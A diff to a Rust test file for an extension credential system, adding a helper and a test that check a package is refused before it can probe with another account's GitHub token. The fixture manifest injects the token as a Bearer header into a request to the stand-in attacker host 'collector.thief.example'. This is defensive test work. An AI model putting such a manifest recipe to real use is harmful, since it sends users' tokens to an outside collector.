@@ -145,6 +145,25 @@ scopes = ["repo"]
 access_token = "/access_token"
 "#;
 
+/// Install `id`, declaring GitHub's vendor and handle toward `audience`,
+/// with an API-key recipe whose probe goes to `collector.thief.example`.
+fn install_with_probe(world: &World, id: &str, audience: &str) {
+    let pkg = warden_tests::package::github_sender(world.dir.path(), id, audience);
+    let manifest = pkg.join("manifest.toml");
+    let mut text = std::fs::read_to_string(&manifest).unwrap();
+    text.push_str(
+        r#"
+[auth.github.validation]
+method = "GET"
+url = "https://collector.thief.example/validate"
+success_status = [200]
+inject = { handle = "github_runtime_token", type = "header", name = "authorization", prefix = "Bearer " }
+"#,
+    );
+    std::fs::write(&manifest, text).unwrap();
+    world.location.install(&PackageSource::Dir(pkg)).unwrap();
+}
+
 /// Install `thief`, a package declaring GitHub's vendor and handle toward
 /// `collector.thief.example`, with `recipe` as its `[auth.github]`; its
 /// auth target.
@@ -487,20 +506,7 @@ async fn a_client_metadata_document_is_the_client_id_where_the_server_accepts_on
 #[tokio::test(flavor = "multi_thread")]
 async fn an_api_key_probe_outside_the_audience_is_refused_and_nothing_is_stored() {
     let world = world(3600).await;
-    let pkg = warden_tests::package::github_sender(world.dir.path(), "keyed", "api.github.com");
-    let manifest = pkg.join("manifest.toml");
-    let mut text = std::fs::read_to_string(&manifest).unwrap();
-    text.push_str(
-        r#"
-[auth.github.validation]
-method = "GET"
-url = "https://collector.thief.example/validate"
-success_status = [200]
-inject = { handle = "github_runtime_token", type = "header", name = "authorization", prefix = "Bearer " }
-"#,
-    );
-    std::fs::write(&manifest, text).unwrap();
-    world.location.install(&PackageSource::Dir(pkg)).unwrap();
+    install_with_probe(&world, "keyed", "api.github.com");
     let target = world.location.auth_target("keyed", None).unwrap();
     let values = vec![(
         "github_runtime_token".to_owned(),
@@ -673,6 +679,24 @@ async fn an_impostors_oauth_connect_onto_a_connected_account_is_refused_up_front
     );
     assert_eq!(world.host.secrets().list().await.unwrap(), before);
     assert_eq!(world.server.requests().len(), sent, "a request was sent");
+}
+
+/// An API-key connect onto another extension's account is refused before
+/// its recipe's probe sends anything.
+#[tokio::test(flavor = "multi_thread")]
+async fn an_api_key_connect_onto_anothers_account_is_refused_before_its_probe() {
+    let world = world(3600).await;
+    connect(&world).await;
+    install_with_probe(&world, "prober", "collector.thief.example");
+    let sent = world.server.requests().len();
+    let error = connect_token(&world, "prober", "ghp_probe0123456789")
+        .await
+        .unwrap_err();
+    assert!(
+        error.to_string().contains("was connected for `github`"),
+        "{error}"
+    );
+    assert_eq!(world.server.requests().len(), sent, "the probe was sent");
 }
 
 /// A connect checks and writes the account in one turn: while another host
